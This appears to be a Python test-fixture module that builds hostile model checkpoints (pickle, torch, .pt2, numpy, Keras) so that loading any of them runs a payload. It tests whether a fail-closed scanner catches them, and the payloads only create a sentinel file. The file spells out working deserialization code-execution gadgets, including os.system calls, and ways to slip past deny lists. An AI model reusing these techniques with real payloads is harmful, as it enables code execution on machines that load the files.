"""Crafted hostile checkpoints, one per attack class of issue 11.

Every file here is built so that the framework's own loader (``torch.load(weights_only=False)``,
``torch.export.load``, ``np.load(allow_pickle=True)``, ``keras.models.load_model``) would run a
payload that creates ``sentinel``. The payloads use stdlib names that are NOT on any deny list
(``logging.FileHandler`` opens - creates - its file when constructed) as well as the classic
``os.system``, so only a fail-closed scanner catches all of them.

The builders need torch only for the ``torch.save``/``torch.export`` based cases; pure-byte
cases are assembled from pickle opcodes.
"""

from __future__ import annotations

import io
import json
import logging
import os
import pickle
import pickletools
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

import numpy as np


class FileHandlerPayload:
    """Unpickling calls ``logging.FileHandler(sentinel)``, which creates the file."""

    def __init__(self, sentinel: Path) -> None:
        self.sentinel = str(sentinel)

    def __reduce__(self):
        return (logging.FileHandler, (self.sentinel,))


class SystemPayload:
    def __init__(self, sentinel: Path) -> None:
        self.sentinel = str(sentinel)

    def __reduce__(self):
        return (os.system, (f"touch {self.sentinel}",))


# -- a tiny opcode assembler ----------------------------------------------------------------
def s(text: str) -> bytes:
    raw = text.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def g(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def sg(module: str, name: str) -> bytes:
    """STACK_GLOBAL (protocol 4): dotted names are resolved attribute by attribute."""
    return s(module) + s(name) + b"\x93"


def fh_call(sentinel: Path) -> bytes:
    return g("logging", "FileHandler") + b"(" + s(str(sentinel)) + b"tR"


def wrap(body: bytes, proto: int = 2) -> bytes:
    return b"\x80" + bytes([proto]) + body + b"."


def evil_pickle(sentinel: Path, proto: int = 2) -> bytes:
    return pickle.dumps({"x": FileHandlerPayload(sentinel)}, protocol=proto)


# -- zip helpers ----------------------------------------------------------------------------
def rewrite_zip(src: Path, dst: Path, edit: Callable[[str, bytes], list[tuple[str, bytes]]],
                extra: list[tuple[str, bytes]] = ()) -> Path:  # type: ignore[assignment]
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_STORED) as zout:
        for info in zin.infolist():
            for name, data in edit(info.filename, zin.read(info)):
                zout.writestr(zipfile.ZipInfo(name), data)
        for name, data in extra:
            zout.writestr(zipfile.ZipInfo(name), data)
    return dst


def keep(name: str, data: bytes) -> list[tuple[str, bytes]]:
    return [(name, data)]


def pickle_spans(data: bytes, count: int) -> list[tuple[int, int]]:
    """(start, end) of the first ``count`` pickles laid end to end (a legacy torch file)."""
    spans, pos = [], 0
    for _ in range(count):
        end = pos
        for op, _arg, p in pickletools.genops(io.BytesIO(data[pos:])):
            if op.name == "STOP":
                end = pos + p + 1
                break
        spans.append((pos, end))
        pos = end
    return spans


# -- the corpus -----------------------------------------------------------------------------
def pure_cases(d: Path, sentinel: Path) -> dict[str, Path]:
    """Cases that need no framework to build."""
    out: dict[str, Path] = {}

    def put(name: str, data: bytes) -> None:
        p = d / name
        p.write_bytes(data)
        out[name] = p

    def torch_zip(name: str, members: list[tuple[str, bytes]]) -> None:
        p = d / name
        with zipfile.ZipFile(p, "w", zipfile.ZIP_STORED) as zf:
            for n, data in members:
                zf.writestr(zipfile.ZipInfo(n), data)
        out[name] = p

    benign = wrap(b"}")  # an empty dict
    evil = evil_pickle(sentinel)
    base = [("archive/byteorder", b"little"), ("archive/version", b"3\n")]
    # plain torch zip, stdlib class not on any deny list
    torch_zip("zip_filehandler.pt", [("archive/data.pkl", evil)] + base)
    # protocol 0 and 1: no \x80 header
    put("proto0.pkl", evil_pickle(sentinel, 0))
    put("proto1.pkl", evil_pickle(sentinel, 1))
    put("proto4_os_system.pkl", pickle.dumps(SystemPayload(sentinel), protocol=4))
    # functools.partial(FileHandler, S)() : the partial object is called
    put("partial_called.pkl", wrap(g("functools", "partial") + b"(" + g("logging", "FileHandler")
                                   + s(str(sentinel)) + b"tR" + b")R"))
    # _rebuild_from_type_v2(FileHandler, Tensor, (S,), {}) : torch calls func(*args)
    put("rebuild_from_type_v2.pkl", wrap(g("torch._tensor", "_rebuild_from_type_v2") + b"("
                                         + g("logging", "FileHandler") + g("torch", "Tensor")
                                         + b"(" + s(str(sentinel)) + b"t}tR"))
    # copyreg._reconstructor(FileHandler, FileHandler, S): base.__init__(obj, S) runs
    put("copyreg_reconstructor.pkl", wrap(g("copyreg", "_reconstructor") + b"("
                                          + g("logging", "FileHandler") + g("logging", "FileHandler")
                                          + s(str(sentinel)) + b"tR"))
    # a look-alike of torch's rebuild functions and a dotted path through an allowed module
    put("rebuild_lookalike.pkl", wrap(g("torch._utils", "_rebuild_payload") + b"(" + s("x") + b"tR"))
    put("dotted_to_os.pkl", wrap(sg("torch.nn.modules.module", "inspect.os.system") + b"("
                                 + s(f"touch {sentinel}") + b"tR", proto=4))
    # NEWOBJ + BUILD of a class outside the grammar (its __setstate__ would run)
    put("newobj_build.pkl", wrap(g("logging", "FileHandler") + b")\x81}b"))
    # BUILD on a function: monkey-patching live code
    put("build_on_code.pkl", wrap(g("torch.nn.modules.linear", "Linear") + b"}" + s("forward")
                                  + b"Nsb"))
    # the payload runs, then the pickle breaks: the finding must survive the error
    put("payload_then_garbage.pkl", b"\x80\x02" + fh_call(sentinel) + b"\xff")
    torch_zip("zip_payload_then_truncated.pt", [("archive/data.pkl", b"\x80\x02" + fh_call(sentinel)
                                                + b"X\xff\xff\xff\x7f")] + base)
    # EXT opcode: resolves to whatever the copyreg registry holds at load time
    put("ext_opcode.pkl", b"\x80\x02\x82\x01)R.")
    # zip member names as torch resolves them
    torch_zip("zip_upper_case.pt", [("archive/DATA.PKL", evil)] + base)
    torch_zip("zip_duplicate_last_evil.pt", [("archive/data.pkl", benign)] + base
              + [("archive/data.pkl", evil)])
    # a torch zip dressed as a .pt2: its data.pkl is still what torch.load reads
    torch_zip("zip_dressed_as_pt2.pt", [("archive/data.pkl", evil), ("archive/archive_format", b"pt2"),
                                        ("archive/models/m.json", b"{}")] + base)
    # numpy object array with a payload
    buf = io.BytesIO()
    np.save(buf, np.array([FileHandlerPayload(sentinel)], dtype=object), allow_pickle=True)
    p = d / "object_array.npz"
    with zipfile.ZipFile(p, "w") as zf:
        zf.writestr("w.npy", _npy(np.ones((4, 4), np.float32)))
        zf.writestr("meta.npy", buf.getvalue())
    out[p.name] = p
    # Keras: a Lambda 300 levels deep, and a Lambda next to broken weights
    nested: dict = {"class_name": "Lambda", "config": {"name": "deep", "function": "..."}}
    for _ in range(300):
        nested = {"class_name": "Sequential", "config": {"name": "s", "layers": [nested]}}
    out["keras_deep_lambda.keras"] = _keras_zip(d / "keras_deep_lambda.keras", nested)
    lam = {"class_name": "Sequential", "module": "keras", "config": {"name": "m", "layers": [
        {"class_name": "Lambda", "module": "keras.layers", "config": {"name": "lam", "function": "..."}}]}}
    out["keras_lambda_broken_weights.keras"] = _keras_zip(d / "keras_lambda_broken_weights.keras", lam,
                                                          weights=b"not an hdf5 file")
    return out


def _npy(arr: np.ndarray) -> bytes:
    buf = io.BytesIO()
    np.save(buf, arr)
    return buf.getvalue()


def _keras_zip(path: Path, config: dict, weights: bytes | None = None) -> Path:
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("metadata.json", json.dumps({"keras_version": "3.5.0"}))
        zf.writestr("config.json", json.dumps(config))
        zf.writestr("model.weights.h5", weights if weights is not None else b"\x89HDF\r\n\x1a\n")
    return path


def torch_cases(d: Path, sentinel: Path) -> dict[str, Path]:
    """Cases built from real torch files (torch.save / torch.export.save), then edited."""
    import torch

    out: dict[str, Path] = {}
    lin = torch.nn.Linear(3, 4)
    sd = lin.state_dict()
    real = d / "_real.pt"
    torch.save(sd, real)
    # legacy file: payload in each of the pickles torch.load reads before the data
    legacy = d / "_legacy.pt"
    torch.save(sd, legacy, _use_new_zipfile_serialization=False)
    data = legacy.read_bytes()
    spans = pickle_spans(data, 5)
    payload = pickle.dumps(FileHandlerPayload(sentinel), protocol=2)
    for i, label in enumerate(["magic", "protocol", "sys_info", "root", "keys"]):
        a, b = spans[i]
        p = d / f"legacy_payload_in_{label}.pt"
        p.write_bytes(data[:a] + payload + data[b:])
        out[p.name] = p
    # .pt2 archives
    class M(torch.nn.Module):
        def __init__(self) -> None:
            super().__init__()
            self.l = torch.nn.Linear(3, 4)

        def forward(self, x):
            return torch.relu(self.l(x))

    pt2 = d / "_real.pt2"
    torch.export.save(torch.export.export(M(), (torch.randn(2, 3),)), pt2)

    def pickled_weight(name: str, blob: bytes) -> list[tuple[str, bytes]]:
        if name.endswith("model_weights_config.json"):
            cfg = json.loads(blob)
            cfg["config"]["l.weight"]["use_pickle"] = True
            return [(name, json.dumps(cfg).encode())]
        if name.endswith("weights/weight_0"):
            return [(name, evil_pickle(sentinel))]
        return [(name, blob)]

    out["pt2_pickled_weight.pt2"] = rewrite_zip(pt2, d / "pt2_pickled_weight.pt2", pickled_weight)

    def sample_inputs(name: str, blob: bytes) -> list[tuple[str, bytes]]:
        return [(name, evil_pickle(sentinel) if "sample_inputs" in name else blob)]

    out["pt2_sample_inputs.pt2"] = rewrite_zip(pt2, d / "pt2_sample_inputs.pt2", sample_inputs)

    def opaque(name: str, blob: bytes) -> list[tuple[str, bytes]]:
        if name.endswith("model_constants_config.json"):
            cfg = json.loads(blob)
            cfg.setdefault("config", {})["obj"] = {"path_name": "opaque_obj_0", "is_param": False,
                                                   "use_pickle": False, "tensor_meta": None}
            return [(name, json.dumps(cfg).encode())]
        return [(name, blob)]

    prefix = zipfile.ZipFile(pt2).namelist()[0].split("/", 1)[0]
    out["pt2_opaque_obj.pt2"] = rewrite_zip(
        pt2, d / "pt2_opaque_obj.pt2", opaque,
        extra=[(f"{prefix}/data/constants/opaque_obj_0", evil_pickle(sentinel))])
    # a torch.save zip whose nested tensor subclass rebuild names a non-tensor class
    out["zip_filehandler_in_state_dict.pt"] = d / "zip_filehandler_in_state_dict.pt"
    torch.save({"w": torch.ones(2, 2), "hook": FileHandlerPayload(sentinel)},
               out["zip_filehandler_in_state_dict.pt"])
    real.unlink()
    legacy.unlink()
    pt2.unlink()
    return out
